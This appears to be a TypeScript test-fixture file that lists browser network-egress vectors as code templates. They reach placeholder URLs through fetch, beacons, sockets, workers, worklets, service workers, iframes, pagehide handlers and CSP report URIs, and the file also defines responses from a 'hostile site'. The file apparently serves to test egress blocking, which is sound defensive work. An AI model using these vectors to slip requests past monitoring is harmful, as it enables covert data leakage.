import type { MadeAnswer, Vectors } from './egress-vector.ts';
import { WEBRTC } from './egress-webrtc.ts';

/** Requests of a script. */
export const REQUESTS: Vectors = {
  fetch: `await fetch('{HTTPS}', { mode: 'no-cors' });`,
  'fetch-plain': `await fetch('{HTTP}', { mode: 'no-cors' });`,
  'fetch-post': `await fetch('{HTTPS}', { method: 'POST', mode: 'no-cors', body: 'x' });`,
  'fetch-keepalive': `await fetch('{HTTPS}', { mode: 'no-cors', keepalive: true });`,
  'fetch-later': `fetchLater('{HTTPS}', { activateAfter: 0 });`,
  xhr: `const request = new XMLHttpRequest(); request.open('GET', '{HTTPS}'); request.send(); await new Promise((done) => { request.onloadend = done; });`,
  beacon: `navigator.sendBeacon('{HTTPS}', 'x');`,
  'event-source': `const source = new EventSource('{HTTPS}'); await new Promise((done) => { source.onerror = source.onopen = done; }); source.close();`,
  'web-socket': `new WebSocket('{WS}');`,
  'web-socket-tls': `new WebSocket('{WSS}');`,
  'web-socket-stream': `await new WebSocketStream('{WSS}').opened;`,
  'image-object': `new Image().src = '{HTTPS}';`,
  'font-object': `await new FontFace('loaded', 'url({HTTPS})').load();`,
  import: `await import('{HTTPS}');`,
  'import-of-data': `await import('data:text/javascript,import "{HTTPS}"');`,
  'bounce-fetch': `await fetch('/bounce/{NAME}', { mode: 'no-cors' });`,
  'bounce-post': `await fetch('/bounce-307/{NAME}', { method: 'POST', mode: 'no-cors', body: 'x' });`,
  'unload-fetch': `const frame = document.createElement('iframe'); frame.src = '/made/{NAME}'; document.body.append(frame); await new Promise((done) => { frame.onload = done; }); frame.remove();`,
  'unload-beacon': `const frame = document.createElement('iframe'); frame.src = '/made/{NAME}'; document.body.append(frame); await new Promise((done) => { frame.onload = done; }); frame.remove();`,
  'iframe-blob': `const frame = document.createElement('iframe'); frame.src = URL.createObjectURL(new Blob(['<img src={HTTPS}>'], { type: 'text/html' })); document.body.append(frame);`,
  'window-open': `open('{HTTPS}');`,
  'window-noopener': `open('{HTTPS}', '_blank', 'noopener');`,
  'window-link': `Object.assign(document.createElement('a'), { href: '{HTTPS}', target: '_blank' }).click();`,
  'window-form': `const form = Object.assign(document.createElement('form'), { action: '{HTTPS}', target: '_blank', method: 'post' }); document.body.append(form); form.submit();`,
  'window-written': `const opened = open('about:blank'); opened.document.write('<img src="{HTTPS}">');`,
};

const worker = (code: string, options = '') =>
  `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(code)}], { type: 'text/javascript' }))${options});`;
const shared = (code: string) =>
  `new SharedWorker(URL.createObjectURL(new Blob([${JSON.stringify(code)}], { type: 'text/javascript' })), '{NAME}');`;

/** Workers and worklets, which `page.route` of other tools sees in part or not at all. */
export const WORKERS: Vectors = {
  'worker-fetch': worker(`fetch('{HTTPS}', { mode: 'no-cors' });`),
  'worker-xhr': worker(`const request = new XMLHttpRequest(); request.open('GET', '{HTTPS}', false); request.send();`),
  'worker-import-scripts': worker(`importScripts('{HTTPS}');`),
  'worker-module': worker(`import '{HTTPS}';`, `, { type: 'module' }`),
  'worker-socket': worker(`new WebSocket('{WS}');`),
  'worker-event-source': worker(`new EventSource('{HTTPS}');`),
  'worker-in-worker': worker(
    `new Worker(URL.createObjectURL(new Blob(["fetch('{HTTPS}', { mode: 'no-cors' })"], { type: 'text/javascript' })));`,
  ),
  'worker-bounced': `new Worker('/made/{NAME}');`,
  'shared-worker-fetch': shared(`fetch('{HTTPS}', { mode: 'no-cors' });`),
  'shared-worker-socket': shared(`new WebSocket('{WS}');`),
  'service-worker': `await ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, '/made/{NAME}');`,
  'worklet-audio': `await new AudioContext().audioWorklet.addModule('{HTTPS}');`,
  'worklet-paint': `await CSS.paintWorklet.addModule('{HTTPS}');`,
};

/** Sockets past HTTP: what a proxy alone does not see. */
export const SOCKETS: Vectors = {
  'web-transport': `await new WebTransport('https://{AT}:{OWN}/').ready;`,
  ...WEBRTC,
};

const HTML = 'text/html; charset=utf-8';
/** What the hostile site answers at `/made/…` for these and for the elements. */
export const MADE: Readonly<Record<string, MadeAnswer>> = {
  'link-header': { type: HTML, body: '<p>x</p>', headers: { link: '<{HTTPS}>; rel=preload; as=image' } },
  'css-of-xml': { type: 'application/xml', body: '<?xml version="1.0"?><?xml-stylesheet type="text/css" href="{HTTPS}"?><a>x</a>' },
  'iframe-refresh-header': { type: HTML, body: '<p>x</p>', headers: { refresh: '0;url={HTTPS}' } },
  'svg-document': {
    type: 'image/svg+xml',
    body: '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="{HTTPS}" width="9" height="9"/></svg>',
  },
  'report-of-policy': {
    type: HTML,
    body: '<img alt="" src="/logo.png">',
    headers: { 'content-security-policy-report-only': "img-src 'none'; report-uri {HTTPS}" },
  },
  'unload-fetch': { type: HTML, body: `<script>onpagehide = () => fetch('{HTTPS}', { mode: 'no-cors', keepalive: true });</script>` },
  'unload-beacon': { type: HTML, body: `<script>onpagehide = () => navigator.sendBeacon('{HTTPS}', 'x');</script>` },
  'worker-bounced': { type: 'text/javascript', body: `importScripts('/bounce/worker-bounced');` },
  'service-worker': { type: 'text/javascript', body: `fetch('{HTTPS}', { mode: 'no-cors' });` },
};
